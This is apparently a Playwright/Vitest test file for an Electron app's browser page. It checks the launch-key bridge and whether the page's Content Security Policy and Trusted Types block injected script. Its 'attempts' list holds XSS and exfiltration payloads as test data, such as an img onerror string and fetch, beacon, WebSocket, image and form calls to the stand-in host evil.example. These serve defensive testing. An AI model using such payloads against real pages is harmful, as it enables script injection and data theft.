import { join } from 'node:path';
import PDFDocument from 'pdfkit';
import type { Browser, Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { HostServer } from '../../../electron/browserHost/hostServer.ts';
import { launchChromium } from '../../e2e/harness/browser.ts';
import { folderForAll } from '../ownFolder.ts';
import type { Probe } from './probe/main.ts';
import { recordedHost } from './recordedHost.ts';

declare const probe: Probe;

/** react-aria's own style element is refused; the product's page puts an inert one in its place. */
const OWN_STYLE = 'style-src-elem inline';
const { recorded, publisher, start } = recordedHost();
const folder = folderForAll();
let server: HostServer;
let browser: Browser;
let page: Page;
let errors: string[] = [];

beforeAll(async () => {
  await build({
    root: join(import.meta.dirname, 'probe'),
    configFile: false,
    logLevel: 'silent',
    build: { outDir: folder(), emptyOutDir: true, assetsInlineLimit: 0, modulePreload: { polyfill: false } },
  });
  server = await start(folder());
  browser = await launchChromium();
});

afterAll(async () => {
  await browser.close();
  await server.close();
});

afterEach(async () => {
  await page.context().close();
});

/** Opens an address in a browser profile of its own and waits until the page has found its bridge or not. */
async function open(address: string): Promise<string> {
  const context = await browser.newContext();
  page = await context.newPage();
  errors = [];
  page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(address);
  return bridgeState();
}

async function bridgeState(): Promise<string> {
  const state = page.locator('body[data-state]');
  await state.waitFor();
  return (await state.getAttribute('data-state')) ?? '';
}

const violations = () => page.evaluate(() => probe.violations);

describe('the page in a real browser', () => {
  it('connects by the address of the launch, and takes the launch key out of sight at once', async () => {
    expect(await open(server.address)).toBe('connected');
    expect(await page.evaluate(() => [probe.hashAtStart, location.hash, location.search])).toEqual([
      '',
      '',
      '',
    ]);
    expect(await page.evaluate(() => document.cookie)).toBe('');
    expect(errors.filter((line) => !line.includes('style-src'))).toEqual([]);
  });

  it('calls, and reads bytes as bytes', async () => {
    await open(server.address);
    recorded.answerWith(() => ({ bytes: new Uint8Array([0, 255, 37]), fetchedAt: 1, fromCache: true }));
    const answer = await page.evaluate(async () => {
      const bridge = await probe.bridge;
      const got = await bridge.pdfs.preview({ customer: { connectionId: 'a', number: '1' }, id: 1 });
      return got.ok && got.value.bytes instanceof Uint8Array ? [...got.value.bytes] : got;
    });
    expect(answer).toEqual([0, 255, 37]);
  });

  it('receives events, also after it was loaded again without the launch key', async () => {
    await open(server.address);
    await page.reload();
    expect(await bridgeState()).toBe('connected');
    publisher.publish('jobs.changed', []);
    await expect.poll(() => page.evaluate(() => probe.events)).toEqual([[]]);
  });

  it('P15 opens by an address of one use', async () => {
    expect(await open(server.ticketAddress())).toBe('connected');
  });

  it('P15 a page with the secrets of an earlier launch on its port is refused until it has the address of this one', async () => {
    await open(server.address);
    const { hostname: domain, port } = new URL(server.origin);
    const stale = 'x'.repeat(43);
    await page.context().addCookies([{ name: `kontor-${port}`, value: stale, domain, path: '/bridge/' }]);
    await page.evaluate((key) => sessionStorage.setItem('kontor.pageKey', key), stale);
    await page.reload();
    expect(await bridgeState()).toBe('BridgeRefusedError');
    // From the same page only the fragment would change.
    await page.goto('about:blank');
    await page.goto(server.address);
    expect(await bridgeState()).toBe('connected');
  });

  it('P15 a page without the launch key reads so, and so is a page of another launch', async () => {
    expect(await open(server.origin)).toBe('BridgeRefusedError');
    await page.context().close();
    expect(await open(`${server.origin}/#launch=${'x'.repeat(43)}`)).toBe('BridgeRefusedError');
  });
});

describe('P13 the policy in a real browser', () => {
  it('P13 lets React, react-aria and pdf.js with its worker do their work', async () => {
    await open(server.address);
    await page.getByRole('button', { name: 'Press' }).click();
    expect(await page.evaluate(() => probe.pressed)).toBe(1);
    const file = await smallPdf();
    const dark = await page.evaluate((bytes) => probe.darkPixels(new Uint8Array(bytes)), [...file]);
    expect(dark).toBeGreaterThan(500);
    expect((await violations()).filter((line) => line !== OWN_STYLE)).toEqual([]);
  });

  const attempts: readonly (readonly [string, string])[] = [
    [
      'an inline script',
      "const s = document.createElement('script'); s.text = 'globalThis.hit = 1'; document.body.append(s);",
    ],
    [
      'an inline handler',
      "document.body.setAttribute('onclick', 'globalThis.hit = 1'); document.body.click();",
    ],
    ['markup from text', 'document.body.innerHTML = \'<img src=x onerror="globalThis.hit = 1">\';'],
    ['a document from text', "document.write('<script>globalThis.hit = 1</scr' + 'ipt>');"],
    [
      'a script from elsewhere',
      "const s = document.createElement('script'); s.src = 'https://evil.example/a.js'; document.body.append(s);",
    ],
    ['a worker from data', "new Worker('data:text/javascript,1');"],
    ['a worker from a blob', "new Worker(URL.createObjectURL(new Blob(['1'])));"],
    [
      'an inline style',
      "const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s);",
    ],
    ['a picture from elsewhere', "new Image().src = 'https://evil.example/a.png?secret';"],
    ['a request to elsewhere', "fetch('https://evil.example/').catch(() => {});"],
    ['a beacon to elsewhere', "navigator.sendBeacon('https://evil.example/', 'x');"],
    ['a WebSocket', "try { new WebSocket('wss://evil.example/'); } catch {}"],
    [
      'a frame',
      "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);",
    ],
    [
      'an object',
      "const o = document.createElement('embed'); o.type = 'text/html'; o.src = 'https://evil.example/'; document.body.append(o);",
    ],
    [
      'a base address',
      "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);",
    ],
    [
      'a form to elsewhere',
      "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit();",
    ],
  ];
  it.each(attempts)('P13 stops %s', async (_what, script) => {
    await open(server.address);
    // The policy does not apply to the debugger's evaluation; it applies to what the script does in the page.
    const thrown = await page.evaluate(script).then(
      () => '',
      (error: unknown) => String(error),
    );
    // The page's own Trusted Types policy throws; everything else is the browser's to report.
    const stopped = async () =>
      /refused\./.test(thrown) ||
      (await violations()).some((line) => line !== OWN_STYLE || script.includes("'style'"));
    await expect.poll(stopped).toBe(true);
    expect(await page.evaluate('globalThis.hit')).toBeUndefined();
    expect(page.url()).toBe(`${server.origin}/`);
  });

  it('P13 evaluates no text', async () => {
    await open(server.address);
    const evaluated = await page.evaluate(
      () =>
        new Promise((resolve) => {
          // A task of the page itself, outside the debugger's exemption.
          setTimeout(() => {
            try {
              resolve(globalThis.Function('return 1')());
            } catch (error) {
              resolve(error instanceof Error ? error.name : 'thrown');
            }
          });
        }),
    );
    expect(evaluated).toBe('EvalError');
  });
});

function smallPdf(): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument({ size: 'A6' });
    const chunks: Buffer[] = [];
    document.on('data', (chunk: Buffer) => chunks.push(chunk));
    document.on('end', () => resolve(Buffer.concat(chunks)));
    document.rect(20, 20, 60, 60).fill('#000000');
    document.text('Kontor', 20, 120).end();
  });
}
